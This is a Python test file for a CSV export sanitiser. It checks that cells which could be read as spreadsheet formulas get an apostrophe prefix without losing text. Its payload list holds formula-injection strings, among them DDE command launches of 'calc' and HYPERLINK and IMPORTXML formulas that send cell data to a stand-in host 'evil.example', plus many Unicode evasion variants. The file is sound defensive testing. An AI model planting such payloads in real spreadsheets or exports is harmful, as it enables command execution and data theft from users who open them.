"""No text from outside becomes a formula in an exported file, and none is lost on the way."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sage_desktop.core.csv_text import csv_safe, csv_writer

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "=IMPORTXML(CONCAT(\"https://evil.example\"),'//a')",
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "-12.50-",
    "- 12.50",
    "-12,50",
    "-1e5",
    "+12.50",
    "+44 114 496 0112",
    "+441144960112",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "\rtext",
    "\ntext",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\u2066\u200d=1+1",
    "\0=1+1",
    "\x0b=1+1",
    "'=1+1",
    '"=1+1"',
    "\"'` =1+1",
    "“=1+1”",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    "⁼1",
    "−1+1",
    " \t＝1",
    "-1\n",
]

PLAIN = [
    "",
    " ",
    "Mill & Co",
    "Smith-Jones",
    "a=b",
    "someone@mill.example",
    "0",
    "12.50",
    "-12.50",
    "-0",
    "01144960112",
    "'quoted'",
    '"quoted", and more',
    "line one\nline two",
    "semi;colon",
    "שלום",
    "🐙",
    "<b>x</b>",
    "x" * 5000,
]


@pytest.mark.parametrize("value", PAYLOADS)
def test_what_may_be_a_formula_gets_an_apostrophe(value: str) -> None:
    assert csv_safe(value) == "'" + value.replace("\0", " ")


@pytest.mark.parametrize("value", PLAIN)
def test_everything_else_stays_as_it_is(value: str) -> None:
    assert csv_safe(value) == value


@given(st.text(max_size=30))
def test_no_cell_begins_as_a_formula_and_no_letter_is_lost(value: str) -> None:
    safe = csv_safe(value)
    assert "\0" not in safe
    assert safe.removeprefix("'") == value.replace("\0", " ").removeprefix("'")
    if not value.removeprefix("-").replace(".", "", 1).isdecimal():
        assert not safe.startswith(tuple("=+-@\t\r\n"))


def test_a_file_reads_back_cell_by_cell(tmp_path: Path) -> None:
    path = tmp_path / "import.csv"
    values = [*PAYLOADS, *PLAIN]
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        write = csv_writer(file)
        write(["Name", "=Reason"])
        for value in values:
            write((value, "x,y"))
    assert path.read_bytes().startswith(b"\xef\xbb\xbfName,'=Reason\r\n")
    with path.open(encoding="utf-8-sig", newline="") as file:
        header, *rows = csv.reader(file)
    assert header == ["Name", "'=Reason"]
    assert rows == [[csv_safe(value), "x,y"] for value in values]


def test_half_a_surrogate_does_not_end_the_export() -> None:
    assert csv_safe("a\ud800b") == "a?b"
    assert csv_safe("\ud800=1") == "?=1"
